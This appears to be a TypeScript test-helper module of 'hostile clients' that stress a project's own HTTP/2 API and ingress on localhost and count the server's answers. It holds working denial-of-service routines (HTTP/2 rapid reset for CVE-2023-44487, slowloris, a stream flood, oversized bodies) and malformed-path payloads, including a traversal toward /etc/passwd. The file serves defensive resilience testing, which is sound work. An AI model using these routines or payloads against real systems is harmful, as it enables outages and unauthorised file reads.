// Clients nobody should write, for the hostile-clients scenario: each one attacks one bound of
// the API port or the ingress and reports what the server answered (status codes, refusals,
// connections it cut), never throwing.
import { request as httpRequest } from 'node:http';
import { connect, constants, type ClientHttp2Session, type SecureClientSessionOptions } from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';
import { encodeEnvelope } from '@connectrpc/connect/protocol';

/** An HTTP/2 endpoint: h2c (the API port) or TLS (the ingress, trusting its local CA). */
export interface H2Target {
  authority: string;
  ca?: Buffer;
}

/** Every HTTP status a hostile request was answered with; `error` when the connection failed. */
export type StatusCounts = Record<string, number>;

const count = (counts: StatusCounts, key: string | number) => void (counts[String(key)] = (counts[String(key)] ?? 0) + 1);

export const fivexx = (counts: StatusCounts) => Object.entries(counts).reduce((n, [status, c]) => n + (/^5\d\d$/.test(status) ? c : 0), 0);

function openSession(target: H2Target): Promise<ClientHttp2Session> {
  const options: SecureClientSessionOptions = target.ca ? { ca: target.ca, servername: 'localhost' } : {};
  return new Promise((resolve, reject) => {
    const session = connect(target.authority, options);
    session.on('error', () => undefined);
    session.once('connect', () => resolve(session));
    session.once('close', () => reject(new Error(`the connection to ${target.authority} closed before it was set up`)));
    setTimeout(() => reject(new Error(`no HTTP/2 connection to ${target.authority} within 5 s`)), 5_000).unref();
  });
}

/**
 * HTTP/2 rapid reset (CVE-2023-44487): open a stream and cancel it at once, `n` times, so the
 * server starts work for requests nobody waits for. A server that defends itself sends GOAWAY;
 * the attacker then opens a new connection.
 */
export async function rapidReset(target: H2Target, path: string, n: number): Promise<{ streams: number; connections: number }> {
  let streams = 0;
  let connections = 0;
  while (streams < n) {
    const session = await openSession(target).catch(() => undefined);
    if (!session) break;
    connections++;
    try {
      while (streams < n && !session.closed && !session.destroyed) {
        const req = session.request({ [constants.HTTP2_HEADER_METHOD]: 'POST', [constants.HTTP2_HEADER_PATH]: path, 'content-type': 'application/json' });
        req.on('error', () => undefined);
        req.close(constants.NGHTTP2_CANCEL);
        streams++;
        if (streams % 200 === 0) await new Promise((resolve) => setImmediate(resolve));
      }
    } finally {
      session.destroy();
    }
  }
  return { streams, connections };
}

/**
 * Slow headers (slowloris): `n` connections that send an HTTP/1.1 request line and then one
 * header byte every `everyMs`, never finishing, for `forMs`. Reports how many the server cut.
 */
export async function slowHeaders(options: {
  host: string;
  port: number;
  ca?: Buffer;
  n: number;
  everyMs: number;
  forMs: number;
}): Promise<{ opened: number; cutByServer: number }> {
  const one = () =>
    new Promise<'cut' | 'held' | 'refused'>((resolve) => {
      const socket = options.ca
        ? tls.connect({ host: options.host, port: options.port, ca: options.ca, servername: 'localhost', ALPNProtocols: ['http/1.1'] })
        : net.connect({ host: options.host, port: options.port });
      let connected = false;
      let finished = false;
      const finish = (how: 'cut' | 'held' | 'refused') => {
        if (finished) return;
        finished = true;
        clearInterval(drip);
        clearTimeout(until);
        socket.destroy();
        resolve(how);
      };
      socket.on('error', () => finish(connected ? 'cut' : 'refused'));
      socket.on('close', () => finish(connected ? 'cut' : 'refused'));
      socket.once(options.ca ? 'secureConnect' : 'connect', () => {
        connected = true;
        socket.write('GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ');
      });
      const drip = setInterval(() => connected && socket.write('a'), options.everyMs);
      const until = setTimeout(() => finish('held'), options.forMs);
    });
  const results = await Promise.all(Array.from({ length: options.n }, one));
  return { opened: results.filter((r) => r !== 'refused').length, cutByServer: results.filter((r) => r === 'cut').length };
}

/** One HTTP/1.1 request with the path sent exactly as given (no URL normalization). */
export function rawHttp1(options: { host: string; port: number; method: string; path: string; body?: Buffer }): Promise<number | 'error'> {
  return new Promise((resolve) => {
    const req = httpRequest({
      host: options.host,
      port: options.port,
      method: options.method,
      path: options.path,
      headers: { 'content-type': 'application/json' },
      timeout: 10_000,
    });
    req.on('response', (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
      res.on('error', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', () => resolve('error'));
    req.on('timeout', () => req.destroy());
    req.end(options.body);
  });
}

/** One HTTP/2 request on `session`, the path as given; its status, or `error`. */
export function rawHttp2(
  session: ClientHttp2Session,
  options: { method: string; path: string; contentType?: string; body?: Buffer },
): Promise<number | 'error'> {
  return new Promise((resolve) => {
    let req;
    try {
      req = session.request({
        [constants.HTTP2_HEADER_METHOD]: options.method,
        [constants.HTTP2_HEADER_PATH]: options.path,
        'content-type': options.contentType ?? 'application/json',
      });
    } catch {
      resolve('error');
      return;
    }
    let status: number | 'error' = 'error';
    req.on('response', (headers) => (status = Number(headers[constants.HTTP2_HEADER_STATUS])));
    req.on('data', () => undefined);
    req.on('end', () => resolve(status));
    req.on('error', () => resolve(status));
    req.on('close', () => resolve(status));
    req.setTimeout(10_000, () => req.close(constants.NGHTTP2_CANCEL));
    req.end(options.body);
  });
}

/** Malformed URLs on one HTTP/2 target (the API port or the ingress), under /api and outside it. */
export async function malformedHttp2(target: H2Target): Promise<StatusCounts> {
  return onSession(target, async (session, statuses) => {
    for (const path of MALFORMED_PATHS.map((p) => `/api${p}`).concat(MALFORMED_PATHS)) count(statuses, await rawHttp2(session, { method: 'POST', path }));
  });
}

/** A CreateItem whose body is `body` (larger than any limit) on one HTTP/2 target. */
export async function oversizedHttp2(target: H2Target, body: Buffer): Promise<StatusCounts> {
  return onSession(target, async (session, statuses) => {
    count(statuses, await rawHttp2(session, { method: 'POST', path: '/api/auction.api.v1.AuctionService/CreateItem', body }));
  });
}

async function onSession(target: H2Target, fn: (session: ClientHttp2Session, statuses: StatusCounts) => Promise<void>): Promise<StatusCounts> {
  const statuses: StatusCounts = {};
  const session = await openSession(target).catch(() => undefined);
  if (!session) return { error: 1 };
  try {
    await fn(session, statuses);
  } finally {
    session.close();
  }
  return statuses;
}

/** Paths a URL decoder chokes on: broken percent-escapes, a NUL, dot segments, a huge one. */
export const MALFORMED_PATHS = [
  '/items/%E0%A4%A',
  '/items/%ZZ/bids',
  '/items/%',
  '/items/%00',
  '/items/%C0%AF..%C0%AF/live',
  '/..%2F..%2Fetc%2Fpasswd',
  `/items/${'%41'.repeat(3_000)}`,
];

export interface StreamFlood {
  /** Streams whose first message arrived. */
  open: number;
  /** Refused, by Connect code name (resource_exhausted for the per-process cap), or how the stream ended. */
  refused: Record<string, number>;
  /** Neither: held back by the client's HTTP/2 library under SETTINGS_MAX_CONCURRENT_STREAMS, or unanswered. */
  waiting: number;
}

/**
 * `n` WatchItem calls on one HTTP/2 connection, written by hand (Connect's streaming protocol:
 * one enveloped JSON message each), each followed until its first message or its end; resolves
 * after `settleMs` with what became of them and leaves the open ones open until `release`.
 */
export async function streamFlood(target: H2Target, itemId: string, n: number, release: AbortSignal, settleMs: number): Promise<StreamFlood> {
  const flood: StreamFlood = { open: 0, refused: {}, waiting: n };
  const session = await openSession(target).catch(() => undefined);
  if (!session) return { open: 0, refused: { 'no connection': n }, waiting: 0 };
  release.addEventListener('abort', () => session.destroy(), { once: true });
  const envelope = encodeEnvelope(0, new TextEncoder().encode(JSON.stringify({ itemId })));
  const settle = (how: { open: true } | { refused: string }) => {
    flood.waiting--;
    if ('open' in how) flood.open++;
    else flood.refused[how.refused] = (flood.refused[how.refused] ?? 0) + 1;
  };
  for (let i = 0; i < n && !session.destroyed; i++) {
    let req;
    try {
      req = session.request({
        [constants.HTTP2_HEADER_METHOD]: 'POST',
        [constants.HTTP2_HEADER_PATH]: '/api/auction.api.v1.AuctionService/WatchItem',
        'content-type': 'application/connect+json',
        'connect-protocol-version': '1',
      });
    } catch {
      break;
    }
    let settled = false;
    let received = Buffer.alloc(0);
    let status = 0;
    req.on('response', (headers) => (status = Number(headers[constants.HTTP2_HEADER_STATUS])));
    req.on('data', (chunk: Buffer) => {
      if (settled) return;
      received = Buffer.concat([received, chunk]);
      if (received.length < 5 || received.length < 5 + received.readUInt32BE(1)) return;
      settled = true;
      // Flag 0x02 marks the end of the stream, with the error if there is one.
      if ((received[0]! & 0x02) === 0) return settle({ open: true });
      const end = JSON.parse(received.subarray(5, 5 + received.readUInt32BE(1)).toString('utf8')) as { error?: { code?: string } };
      settle({ refused: end.error?.code ?? 'ended' });
    });
    const gone = (reason: string) => () => {
      if (settled) return;
      settled = true;
      settle({ refused: status >= 400 ? `HTTP ${status}` : reason });
    };
    req.on('error', gone('reset'));
    req.on('close', gone('closed'));
    req.end(envelope);
  }
  await new Promise((resolve) => setTimeout(resolve, settleMs));
  return { ...flood, refused: { ...flood.refused } };
}
